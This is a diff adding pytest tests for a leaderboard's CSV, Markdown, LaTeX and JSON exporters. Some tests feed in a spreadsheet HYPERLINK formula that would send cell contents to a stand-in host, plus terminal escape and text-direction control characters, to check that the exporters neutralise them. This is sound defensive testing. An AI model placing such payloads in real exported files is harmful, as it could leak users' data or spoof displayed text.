@@ -8,10 +8,11 @@ import json
 import re
 import shutil
 import subprocess
+from collections.abc import Callable
 from pathlib import Path
 
 import pytest
-from board_records import numbered, solved, tiered
+from board_records import numbered, samples_file, solved, tiered
 
 from harness.scoring.record import DatasetFacts, ModelFacts, Record, Reproduction, Source, Status, TierScore
 from leaderboards.differences import compare
@@ -23,6 +24,7 @@ from leaderboards.formats import (
     difference_json,
     escape_markdown,
     grouped,
+    part_text,
     rank_text,
     size_text,
     status_text,
@@ -68,6 +70,29 @@ def test_csv_keeps_odd_names_whole() -> None:
     assert row["model_id"] == name
 
 
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
+def test_csv_holds_no_formula(sign: str) -> None:
+    text = sign + 'HYPERLINK("http://example.org/?"&A1,"click")'
+    record = numbered(0.5, model=ModelFacts(id=text, name=text, group=text, licence=text), notes=["\t" + text])
+    [row] = csv.DictReader(io.StringIO(as_csv(of(record))))
+    for column in ("model_id", "model", "group", "licence", "notes"):
+        assert row[column] == "'" + text
+
+
+@pytest.mark.parametrize("write", [as_csv, as_markdown, as_latex])
+def test_no_format_carries_control_characters(write: Callable[[list], str]) -> None:
+    note = "\x1b]0;pwn\x07\x1b[31mred \u202e \x9b31m"
+    text = write(of(numbered(0.5, model=ModelFacts(id="m\x9b31m\u202e"), notes=[note])))
+    assert all(character.isprintable() or character == "\n" for character in text)
+
+
+def test_why_a_row_is_not_ranked_is_told_in_json_and_latex() -> None:
+    found = of(solved([1, 0, 1, 0], "whole"), solved([1, 1, None, None], "part"))
+    [board] = as_json(found)["boards"]
+    assert [row.get("unranked") for row in board["rows"]] == [None, "scored on 2 of 4 problems, others on 4"]
+    assert r"\dagger$}: not ranked, since it was scored on fewer problems or on others." in as_latex(found)
+
+
 def test_json_has_every_board_and_row(paper: list) -> None:
     data = json.loads(json.dumps(as_json(paper, ["a fault"])))
     assert [board["tier"] for board in data["boards"]] == ["overall", "introductory", "interview", "competition"]
@@ -87,6 +112,7 @@ def test_a_difference_as_json_says_how_it_came_about() -> None:
     told = difference_json(compare(solved([1, 0, 0], "a"), solved([1, 1, 1], "b")))
     assert (told["a"]["id"], told["b"]["score"]["value"], told["paired"]) == ("a", 1.0, True)
     assert (told["a_only"], told["b_only"]) == ([], ["P/1", "P/2"])
+    assert told["b"]["on_common_problems"] == told["b"]["score"]
     assert told["b_minus_a"]["value"] == pytest.approx(2 / 3)
     assert json.loads(json.dumps(told)) == told
 
@@ -134,6 +160,8 @@ def test_a_link_cannot_end_early() -> None:
         ("a<b>c|d", r"a\textless{}b\textgreater{}c\textbar{}d"),
         ("w/o CCCS -- 6.7B", r"w/o CCCS -{}- 6.7B"),
         ("two\nlines", "two lines"),
+        ("[3pt] x", "{[}3pt{]} x"),
+        ("*x", "{*}x"),
     ],
 )
 def test_latex_prints_any_text(text: str, escaped: str) -> None:
@@ -167,7 +195,8 @@ def test_unranked_rows_are_marked_in_latex() -> None:
 
 @pytest.mark.skipif(shutil.which("pdflatex") is None, reason="pdflatex is not installed")
 def test_latex_compiles(paper: list, tmp_path: Path) -> None:
-    tables = as_latex(paper) + as_latex(of(numbered(0.5, model=ModelFacts(id=NASTY, group=NASTY))))
+    nasty = [numbered(0.5, f"m{i}", model=ModelFacts(id=n, group=n)) for i, n in enumerate((NASTY, "[3pt]", "*"))]
+    tables = as_latex(paper) + as_latex(of(*nasty)) + as_latex(of(*(r for r in nasty if r.model.group != "*")))
     head = "\\documentclass{article}\\usepackage[T1]{fontenc}\\usepackage{textcomp,booktabs}\\begin{document}\n"
     (tmp_path / "t.tex").write_text(head + tables + "\\end{document}\n")
     command = ["pdflatex", "-halt-on-error", "-interaction=nonstopmode", "t.tex"]
@@ -201,9 +230,17 @@ def test_a_rank_is_a_range_where_the_data_allow_several() -> None:
 
 def test_reproduced_says_how_much_agreed() -> None:
     again = Reproduction(samples=164, agreed=163)
-    record = solved([1], status=Status.REPRODUCED, reproduction=again)
-    assert status_text(record) == "reproduced (163 of 164)"
+    record = numbered(0.5, status=Status.REPRODUCED, reproduction=again, samples=samples_file())
+    assert (status_text(record), part_text(record)) == ("reproduced (163 of 164)", "")
     assert status_text(solved([1])) == "self-reported"
+
+
+def test_reproduced_in_part_says_so() -> None:
+    again = Reproduction(samples=33, agreed=32)
+    record = numbered(0.5, status=Status.REPRODUCED, reproduction=again, samples=samples_file())
+    assert (status_text(record), part_text(record)) == ("reproduced (32 of 33, in part: 33/164)", "33/164")
+    assert part_text(record.model_copy(update={"samples": None})) == "33/?"
+    assert part_text(record.model_copy(update={"status": Status.REPORTED})) == ""
 
 
 def test_groups_stand_in_the_papers_order_then_others_then_none() -> None:
